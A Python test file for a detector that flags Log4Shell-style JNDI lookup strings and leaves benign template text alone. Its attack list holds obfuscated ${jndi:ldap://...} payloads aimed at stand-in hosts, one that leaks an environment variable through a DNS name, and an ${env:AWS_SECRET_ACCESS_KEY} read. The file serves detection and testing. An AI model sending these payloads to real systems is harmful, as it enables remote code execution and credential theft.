"""Look-ups are worked out as Log4j does."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bavn.payloads.jndi import jndi_injection
from tests.work import read_to_the_end

ATTACKS = (
    ("${jndi:ldap://203.0.113.9/a}", "jndi-lookup"),
    ("${${lower:j}ndi:ldap://203.0.113.9/a}", "jndi-lookup"),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.9/a}", "jndi-lookup"),
    ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9/a}", "jndi-lookup"),
    ("${jndi:dns://x.evil.example}", "jndi-lookup"),
    ("${jndi:rmi://203.0.113.9/a}", "jndi-lookup"),
    ("${JNDI:ldap://x}", "jndi-lookup"),
    ("${${upper:j}n${lower:d}i:l${lower:d}ap://x}", "jndi-lookup"),
    ("${jnd${upper:\u0131}:ldap://x}", "jndi-lookup"),
    ("${${sys:x:-j}ndi:ldap://x}", "jndi-lookup"),
    ("$${jndi:ldap://x}", "jndi-lookup"),
    ("${jndi:${lower:l}${lower:d}ap://x}", "jndi-lookup"),
    ("${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://x}", "jndi-lookup"),
    ("${env:AWS_SECRET_ACCESS_KEY}", "reading-lookup"),
    ("${sys:java.version}", "reading-lookup"),
    ("${java:os}", "reading-lookup"),
    ("${${date:'j'}ndi:ldap://x}", "nested-lookup"),
    ("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}", "jndi-lookup"),
    ("${jndi:ldap://${env:USER}.evil.example}", "jndi-lookup"),
)

# Texts of the same signs that people send.
HONEST = (
    "${price}",
    "${user.name}",
    "${PATH}",
    "${x}^2$",
    "${item.price * item.count}",
    "${fn:length(list)}",
    "${jndi}",
    "jndi:ldap",
    "${env}",
    "${date:yyyy}",
    "${user:-guest}",
    "${name:-nobody}",
    "${sys}",
    "${lower}",
    "${name}",
    "${obj.method}",
    "${i}",
    "${a.b.c}",
    "${VAR:-default}",
    "${CI_COMMIT_SHA}",
    "${{ github.sha }}",
    "jndi",
    "ldap://example.com",
)


@pytest.mark.parametrize(("value", "because"), ATTACKS, ids=[value for value, _ in ATTACKS])
def test_an_attack_is_found_and_named(value: str, because: str) -> None:
    assert jndi_injection(value) == because


@pytest.mark.parametrize("value", HONEST)
def test_an_honest_text_is_left_alone(value: str) -> None:
    assert jndi_injection(value) is None


@settings(deadline=None, max_examples=150)
@given(st.text(max_size=200) | st.text(alphabet="${:-}jndilower", max_size=400))
def test_no_text_makes_it_raise(value: str) -> None:
    reason = jndi_injection(value)
    assert reason is None or reason.replace("-", "").isalpha()


@pytest.mark.parametrize("unit", ["${", "${${", "${a:", "}"])
def test_a_hostile_text_however_long_is_read_to_its_end(unit: str) -> None:
    read_to_the_end(jndi_injection, unit)


def test_look_ups_nested_deeper_than_any_honest_one_are_reported_without_recursion() -> None:
    assert jndi_injection("${" * 2000 + "x" + "}" * 2000) == "nested-lookup"


def test_a_look_up_that_a_log_has_cut_off_is_found() -> None:
    assert jndi_injection("${${lower:j}ndi:ldap://203.0.113.9/aaaa") == "jndi-lookup"


PIECES = (*str.split("${ } : - :- j n d i jndi lower upper env x / ldap"),)


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from((*PIECES, " ")), max_size=24).map("".join))
def test_no_order_of_its_own_words_and_signs_makes_it_raise(value: str) -> None:
    reason = jndi_injection(value)
    assert reason is None or reason.replace("-", "").isalpha()
